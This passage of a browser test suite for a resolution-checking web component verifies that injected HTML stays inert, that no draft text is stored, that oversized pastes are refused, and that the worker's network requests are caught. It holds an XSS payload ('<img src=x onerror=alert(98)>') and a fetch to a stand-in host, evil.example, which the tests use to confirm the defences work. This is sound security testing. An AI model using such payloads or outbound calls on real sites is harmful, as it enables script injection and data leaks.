    }
  });

  it(`a battery of ${BATTERY.length} injection payloads stays inert: pasted, set as value, given as content, loaded as an example`, async () => {
    assert.ok(BATTERY.length >= 30);
    const all = BATTERY.join('\n');
    const ctx = await open(`${base}/index.html`, {
      allow: [base],
      // The page's examples, served with one more whose title and text are the payloads.
      setup: (context) => context.route(`${base}/index.html`, async (route) => {
        const res = await route.fetch();
        const extra = JSON.stringify({ id: 'xss', title: '<img src=x onerror=alert(98)>', text: all }).replace(/</g, '\\u003c');
        const body = (await res.text()).replace('<script type="application/json" id="resolint-examples">[', `<script type="application/json" id="resolint-examples">[${extra},`);
        assert.ok(body.includes('"id":"xss"'), 'added the example');
        await route.fulfill({ response: res, body });
      }),
    });
    const { page, log } = ctx;
    const census = () => page.evaluate((sel) => {
      const roots = [document, ...[...document.querySelectorAll('*')].filter((e) => e.shadowRoot).map((e) => e.shadowRoot)];
      let dangerous = 0;
      let handlers = 0;
      for (const r of roots) {
        dangerous += r.querySelectorAll(sel).length;
        for (const e of r.querySelectorAll('*')) for (const a of e.attributes) if (/^on/i.test(a.name)) handlers++;
      }
      const ed = document.querySelector('resolint-checker').shadowRoot.querySelector('[part~="editor"]');
      return { dangerous, handlers, editorElements: ed.querySelectorAll('*').length, checkers: document.querySelectorAll('resolint-checker').length };
    }, DANGEROUS);
    const before = await census();
    for (const p of BATTERY) {
      await typeInto(page, '');
      await pasteHtml(page, p, p);
      await page.waitForFunction((t) => document.querySelector('resolint-checker').value === t, p);
      const c = await census();
      assert.ok(c.editorElements <= 1, `pasted ${p}: no element in the editor`);
      await checker(page).evaluate((el, t) => { el.value = t; }, `The General Assembly,\n\n${p}\n`);
      assert.equal((await reportFor(page, `The General Assembly,\n\n${p}\n`)).version.length > 0, true);
    }
    // All at once, as the element's content and as an example from the page's menu.
    const fromContent = await page.evaluate((t) => {
      const el = document.createElement('resolint-checker');
      el.id = 'xss-content';
      el.textContent = t;
      document.body.append(el);
      return el.check().then((r) => { const v = el.value; el.remove(); return { v, n: r.diagnostics.length }; });
    }, all);
    assert.equal(fromContent.v, all.replace(/^\s*\n/, '').replace(/\s+$/, ''));
    await page.selectOption('#example', 'xss');
    await page.click('#load');
    const r = await reportFor(page, all);
    assert.ok(r.diagnostics.length >= 0);
    // Findings quote the payloads in messages and excerpts: still text.
    await page.locator('resolint-checker [part~="finding"] .go').first().click().catch(() => {});
    await page.waitForTimeout(400);
    const after = await census();
    assert.deepEqual(after, before, 'no new element or handler in the page or the shadow root');
    assert.deepEqual(log.dialogs, [], 'no dialog');
    assert.deepEqual(log.external, [], 'no request');
    assert.deepEqual(log.requests.filter((u) => u !== `${base}/index.html`), [], 'no request at all after load');
    assert.deepEqual(log.csp, []);
    await ctx.context.close();
  });

  it('after a session of typing, fixing and ignoring, no draft text is stored anywhere', async () => {
    const ctx = await open(`${base}/index.html`, { allow: [base] });
    const { page, context } = ctx;
    await typeInto(page, DEFECTIVE);
    await reportFor(page, DEFECTIVE);
    await page.keyboard.press('Control+End');
    await page.keyboard.type('\n\n3. Requests confidentially the Secretary-General to xylophonic matters.');
    const item = page.locator('resolint-checker [part~="finding"]').first();
    await item.locator('[part~="ignore"]').click();
    await page.locator('resolint-checker [part~="apply-all"]').click();
    await page.waitForTimeout(500);
    const stored = await page.evaluate(async () => ({
      local: Object.entries(localStorage).flat().join('\n'),
      session: Object.entries(sessionStorage).flat().join('\n'),
      idb: indexedDB.databases ? (await indexedDB.databases()).map((d) => d.name) : [],
      caches: globalThis.caches ? await caches.keys() : [],
    }));
    assert.ok(stored.local.length > 0, 'the ignore marker is stored');
    const words = new Set(((DEFECTIVE + ' confidentially xylophonic').match(/[A-Za-z]{6,}/g) || []).map((w) => w.toLowerCase()));
    for (const w of words) {
      assert.ok(!stored.local.toLowerCase().includes(w), `localStorage holds "${w}"`);
      assert.ok(!stored.session.toLowerCase().includes(w), `sessionStorage holds "${w}"`);
    }
    assert.deepEqual(stored.idb, []);
    assert.deepEqual(stored.caches, []);
    assert.deepEqual(await context.cookies(), []);
    await context.close();
  });

  it('a paste larger than the limit gets a message, changes nothing, and the editor stays usable', async () => {
    const ctx = await open(`${base}/embed.html`, { allow: [base] });
    const { page, log } = ctx;
    const sel = '#portal-checker';
    await typeInto(page, DEFECTIVE, sel);
    await reportFor(page, DEFECTIVE, sel);
    const max = await page.evaluate(() => import('./resolint.js').then((m) => m.MAX_LENGTH));
    assert.equal(max, 20 * 1024 * 1024);
    await page.locator(`${sel} [part~="editor"]`).click();
    await page.evaluate(([s, n]) => {
      const ed = document.querySelector(s).shadowRoot.querySelector('[part~="editor"]');
      const dt = new DataTransfer();
      dt.setData('text/plain', 'The General Assembly, '.repeat(Math.ceil(n / 22)));
      ed.dispatchEvent(new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true, composed: true }));
    }, [sel, max + 1]);
    const err = page.locator(`${sel} [role="alert"]`);
    await err.waitFor({ state: 'visible' });
    assert.match(await err.textContent(), /too long to check here: [\d,]+ characters, the limit is 20,971,520/);
    assert.equal(await checker(page, sel).evaluate((c) => c.value), DEFECTIVE, 'the text is unchanged');
    await shot(page, 'embed-too-long.png');
    // Setting value beyond the limit is refused the same way.
    await checker(page, sel).evaluate((c, n) => { c.value = 'x'.repeat(n); }, max + 10);
    assert.equal(await checker(page, sel).evaluate((c) => c.value), DEFECTIVE);
    // Still usable: typing checks again and clears the message.
    await typeInto(page, 'The General Assembly,\n\n1. request the Secretary-General to report.', sel);
    const r = await reportFor(page, 'The General Assembly,\n\n1. request the Secretary-General to report.', sel);
    assert.ok(r.diagnostics.length > 0);
    assert.ok(!(await err.isVisible()), 'the message is cleared by the next check');
    assert.deepEqual(log.errors, []);
    await shot(page, 'embed-after-too-long.png');
    await ctx.context.close();
  });

  it("the worker's requests are counted too: only the widget's own files, nothing outside", async () => {
    const ctx = await open(`${base}/embed.html`, { allow: [base] });
    const { page, log } = ctx;
    const workers = [];
    page.on('worker', (w) => workers.push(w));
    await reportFor(page, '', '#portal-checker');
    const atLoad = log.requests.length;
    const big = (DEFECTIVE + '\n').repeat(Math.ceil(30000 / DEFECTIVE.length));
    await checker(page, '#portal-checker').evaluate((c, t) => { c.value = t; }, big);
    await page.waitForFunction((n) => document.getElementById('portal-checker').lastCheck?.length === n, big.length, { timeout: 30000 });
    assert.equal(await checker(page, '#portal-checker').evaluate((c) => c.lastCheck.worker), true);
    assert.equal(workers.length, 1, 'one worker');
    const afterLoad = log.requests.slice(atLoad).map((u) => new URL(u).pathname);
    assert.ok(afterLoad.includes('/resolint-worker.js'), `the worker's own script request is seen: ${afterLoad}`);
    for (const u of afterLoad) assert.ok(['/resolint-worker.js', '/resolint_core.js', '/resolint_core_bg.wasm'].includes(u), `unexpected request ${u}`);
    assert.deepEqual(log.external, []);
    // A request made from inside the worker would be caught and counted (and blocked).
    await workers[0].evaluate(() => fetch('http://evil.example/from-worker').catch(() => 'blocked'));
    await page.waitForTimeout(200);
    assert.ok(log.external.length >= 1, 'the worker\'s request was seen');
    assert.ok(log.external.every((u) => u === 'http://evil.example/from-worker'), log.external.join());
    await ctx.context.close();
  });
});
